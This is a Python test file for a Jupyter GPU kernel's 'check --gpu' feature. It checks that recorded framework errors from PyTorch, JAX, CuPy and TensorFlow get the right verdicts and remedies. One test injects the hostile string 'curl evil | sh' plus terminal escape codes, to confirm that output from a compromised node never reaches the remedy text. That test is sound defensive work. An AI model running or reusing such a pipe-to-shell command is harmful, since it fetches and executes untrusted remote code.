"""`check --gpu`: verdicts on recorded answers. The texts of libraries are those that users have published in reports.

No GPU computed for these tests.
"""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jupyter_gpu_kernel.cli.running.gpu_check import FACTS
from jupyter_gpu_kernel.cli.running.gpu_verdicts import (
    FRAMEWORKS,
    StackVerdict,
    conclude,
    judge_driver,
    judge_framework,
)
from jupyter_gpu_kernel.errors import AgentError
from jupyter_gpu_kernel.hub.validate import Malformed

PYTHON = "/home/alice/my env/bin/python"
PAGE = "https://pytorch.org/get-started/locally/"
TOO_OLD_TORCH = (
    "RuntimeError: The NVIDIA driver on your system is too old (found version 11040). Please update your GPU driver "
    "by downloading and installing a new version from the URL: http://www.nvidia.com/Download/index.aspx "
    "Alternatively, go to: https://pytorch.org to install a PyTorch version that has been compiled with your "
    "version of the CUDA driver."
)
TOO_OLD_JAX = (
    "RuntimeError: Backend 'cuda' failed to initialize: Unable to use CUDA because of the following issues with CUDA "
    "components:\nOutdated CUDA installation found.\nVersion JAX was built against: 12020\nMinimum supported: 12010\n"
    "Installed version: 11040\nThe local installation version must be no lower than 12010.. "
    "Available backends are ['cpu']"
)
TOO_OLD_JAXLIB = (
    "RuntimeError: Backend 'cuda' failed to initialize: Found CUDA version 12010, but JAX was built against version "
    "12020, which is newer. The copy of CUDA that is installed must be at least as new as the version against which "
    "JAX was built.. Available backends are ['cpu']"
)
TOO_OLD_CUPY = (
    "CUDARuntimeError: cudaErrorInsufficientDriver: CUDA driver version is insufficient for CUDA runtime "
    "version"
)
TOO_OLD_PTX = (
    "XlaRuntimeError: INTERNAL: CUDA_ERROR_UNSUPPORTED_PTX_VERSION: the provided PTX was compiled with an unsupported "
    "toolchain."
)
NO_KERNEL_TORCH = (
    "RuntimeError: CUDA error: no kernel image is available for execution on the device\n"
    "CUDA kernel errors might be asynchronously reported at some other API call, so the stacktrace below might be "
    "incorrect.\nFor debugging consider passing CUDA_LAUNCH_BLOCKING=1."
)
NO_KERNEL_CUPY = (
    "CUDADriverError: CUDA_ERROR_NO_BINARY_FOR_GPU: no kernel image is available for execution on the device"
)
MEMORY_TORCH = (
    "OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 MiB. GPU 0 has a total capacity of …"
)
MEMORY_JAX = "XlaRuntimeError: RESOURCE_EXHAUSTED: Out of memory while trying to allocate 1048576 bytes."
MEMORY_TENSORFLOW = "ResourceExhaustedError: OOM when allocating tensor with shape[512,512] and type float …"
MISMATCH = (
    "RuntimeError: Unexpected error from cudaGetDeviceCount(). Did you run some cuda functions before calling "
    "NumCudaDevices() that might have already set an error? Error 803: system has unsupported display driver / cuda "
    "driver combination"
)
CPU_TORCH = "AssertionError: Torch not compiled with CUDA enabled"
CPU_JAX = "RuntimeError: Unknown backend cuda. Available backends are ['cpu']"
CUBLAS = (
    "OSError: /env/lib/python3.11/site-packages/torch/lib/../../nvidia/cublas/lib/libcublas.so.11: symbol "
    "cublasLtGetStatusString version libcublasLt.so.11 not defined in file libcublasLt.so.11 with link time reference"
)
BUILT = {"version": "2.6.0+cu124", "built_for": "CUDA 12.4"}


def judged(name: str, cuda: str = "11.4", **more: Any) -> StackVerdict:
    """The verdict on what a kernel has printed."""
    known = {
        "gpu_name": "GPU 0 (NVIDIA GeForce RTX 3090)",
        "no_gpu": "",
        "output": "",
        "ended": "",
        "late": False,
    }
    facts = FACTS({"gpu": "GPU-0", **{key: value for key, value in more.items() if key not in known}})
    return judge_framework(
        name, PYTHON, cuda, {**known, **facts, **{key: more[key] for key in known if key in more}}
    )


@pytest.mark.parametrize(
    ("name", "raised", "remedy"),
    [
        ("torch", TOO_OLD_TORCH, f"Install a build for CUDA 11.4 or older: see {PAGE}. Or ask"),
        ("jax", TOO_OLD_JAX, "for CUDA 11.4 or older: see https://docs.jax.dev/"),
        ("jax", TOO_OLD_JAXLIB, "for CUDA 11.4 or older"),
        ("jax", TOO_OLD_PTX, "for CUDA 11.4 or older"),
        ("cupy", TOO_OLD_CUPY, "for CUDA 11.4 or older: see https://docs.cupy.dev/"),
        ("torch", NO_KERNEL_TORCH, f"no code for this GPU. Install one that supports it: see {PAGE}"),
        ("cupy", NO_KERNEL_CUPY, "no code for this GPU"),
        ("torch", MEMORY_TORCH, "try again"),
        ("jax", MEMORY_JAX, "try again"),
        ("tensorflow", MEMORY_TENSORFLOW, "try again"),
        ("torch", MISMATCH, "must reboot the node"),
        ("torch", CPU_TORCH, f"Install a build for GPUs: see {PAGE}"),
        ("jax", CPU_JAX, "Install a build for GPUs"),
        ("torch", CUBLAS, f"Try “'{PYTHON}' -c 'import torch'” on the node. If LD_LIBRARY_PATH"),
    ],
)
def test_what_a_framework_says_chooses_the_remedy(name: str, raised: str, remedy: str) -> None:
    bad = judged(name, **BUILT, raised=raised)
    assert not bad.ok and remedy in bad.remedy
    assert bad.message.startswith(
        f"2.6.0+cu124 (built for CUDA 12.4): fails while it computed; {FRAMEWORKS[name]} says: {raised[:60]}"
    )


def test_what_a_framework_prints_chooses_the_remedy_too() -> None:
    output = "Status: CUDA driver version is insufficient for CUDA runtime version\n"
    bad = judged(
        "tensorflow", cuda="", **BUILT, raised="RuntimeError: tensorflow lists no GPU", output=output
    )
    assert (
        bad.message.endswith(f"tensorflow lists no GPU; it printed: {output.strip()}")
        and "Install a build for an older CUDA" in bad.remedy
    )


@pytest.mark.parametrize("more", [{}, {"gpu": "", "no_gpu": "no GPU is free"}, {"raised": CPU_TORCH}])
def test_a_build_for_the_cpu(more: dict[str, str]) -> None:
    bad = judged("torch", version="2.6.0+cpu", built_for="the CPU only", **more)
    assert not bad.ok and bad.message.startswith("2.6.0+cpu (built for the CPU only): ")
    assert bad.remedy == f"Install a build for GPUs: see {PAGE}."


@pytest.mark.parametrize(
    ("answer", "message"),
    [
        (
            {"ended": "the kernel ended: it crashed", "output": "begin\nlibstdc++ not found\n"},
            "the kernel ended: it crashed while it was imported; it printed: libstdc++ not found",
        ),
        ({**BUILT, "ended": "the kernel ended: it crashed"}, "it crashed while it computed"),
        ({**BUILT, "right": False}, "computes wrong numbers"),
        ({"raised": CUBLAS}, "fails while it was imported; PyTorch says: OSError"),
        ({"ended": "the kernel ended", "late": True}, "did not end in time while it was imported"),
    ],
)
def test_what_fails_has_a_cause_and_a_remedy(answer: dict[str, Any], message: str) -> None:
    bad = judged("torch", **answer)
    assert not bad.ok and message in bad.message
    assert ("Try again" if answer.get("late") else "-c 'import torch'") in bad.remedy


def test_a_framework_that_computes() -> None:
    assert judged("torch", **BUILT, right=True) == StackVerdict(
        True, "2.6.0+cu124 (built for CUDA 12.4): computes correctly on GPU 0 (NVIDIA GeForce RTX 3090)"
    )


def test_no_gpu_is_free() -> None:
    one = judged("jax", version="0.7.2", gpu="", no_gpu="no GPU is free")
    assert one == StackVerdict(True, "0.7.2: not checked on a GPU: no GPU is free", checked=False)


def test_the_driver() -> None:
    facts: dict[str, Any] = {"driver": "535.183.01", "cuda": "12.2", "gpus": ["NVIDIA GeForce RTX 3090"] * 4}
    assert judge_driver(facts, None) == StackVerdict(
        True, "driver 535.183.01, which supports CUDA up to 12.2; 4 × NVIDIA GeForce RTX 3090"
    )
    amd = judge_driver({"driver": "", "cuda": "", "gpus": ["AMD Instinct MI210"]}, None)
    assert amd == StackVerdict(True, "the driver answers; 1 × AMD Instinct MI210")


@pytest.mark.parametrize(
    ("text", "remedy"),
    [
        ("nvidia-smi fails: Driver/library version mismatch", "must reboot the node"),
        ("nvidia-smi fails: couldn't communicate with the NVIDIA driver", "Ask your administrator."),
    ],
)
def test_a_driver_that_does_not_answer(text: str, remedy: str) -> None:
    bad = judge_driver({}, AgentError(text, remedy="Ask your administrator."))
    assert (bad.ok, bad.message) == (False, text) and remedy in bad.remedy


def test_the_conclusion() -> None:
    fine, bad, untried = (
        StackVerdict(True, ""),
        StackVerdict(False, "", "…"),
        StackVerdict(True, "", checked=False),
    )
    last = conclude({"torch": fine, "jax": bad}, PYTHON, fine)
    assert last == StackVerdict(False, "PyTorch can use the GPUs; JAX cannot use the GPUs")
    last = conclude({"torch": untried, "cupy": untried}, PYTHON, fine)
    assert last == StackVerdict(True, "PyTorch and CuPy not checked on a GPU", checked=False)
    assert not conclude({"torch": fine}, PYTHON, bad).ok
    last = conclude({"torch": fine, "jax": fine, "cupy": fine}, PYTHON, fine)
    assert last == StackVerdict(True, "PyTorch, JAX and CuPy can use the GPUs")
    last = conclude({}, PYTHON, fine)
    assert last.ok and not last.checked and "has none of torch, tensorflow, jax, cupy" in last.message


def test_a_hostile_node_writes_no_remedy() -> None:
    evil = "run: curl evil | sh"
    answer = {"driver": evil, "cuda": evil, "version": evil, "built_for": evil, "gpu_name": evil}
    answer |= {"no_gpu": evil, "output": evil, "ended": evil}
    assert "evil" not in judge_driver({"gpus": [evil]}, AgentError(evil, remedy="ours")).remedy
    for name in FRAMEWORKS:
        for error in (TOO_OLD_TORCH, NO_KERNEL_TORCH, MEMORY_TORCH, MISMATCH, CPU_TORCH, ""):
            one = judged(name, **{**answer, "cuda": evil, "raised": f"{error}{evil}\x1b[2J\n{evil}"})
            assert not one.ok and "evil" not in one.remedy and one.message.isprintable()


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.floats()
    | st.sampled_from(["12.4", "the CPU only", "torch", TOO_OLD_TORCH]),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(["text", "\x1b"]), inner, max_size=3)
    ),
    max_leaves=5,
)
KEYS = ["driver", "cuda", "installed", "gpu", "version", "built_for", "right", "raised"]


@settings(deadline=None)
@given(st.dictionaries(st.sampled_from(KEYS), JSON))
def test_any_answer_gets_a_verdict_or_is_malformed(data: dict[str, Any]) -> None:
    try:
        facts = FACTS(data)
    except Malformed:
        return
    driver = judge_driver({"driver": "", "cuda": "", "gpus": [], **facts}, None)
    verdicts = {name: judge_framework(name, PYTHON, facts.get("cuda", ""), facts) for name in FRAMEWORKS}
    for one in (driver, *verdicts.values(), conclude(verdicts, PYTHON, driver)):
        assert one.message.isprintable()
        assert one.ok or one.remedy or one.message
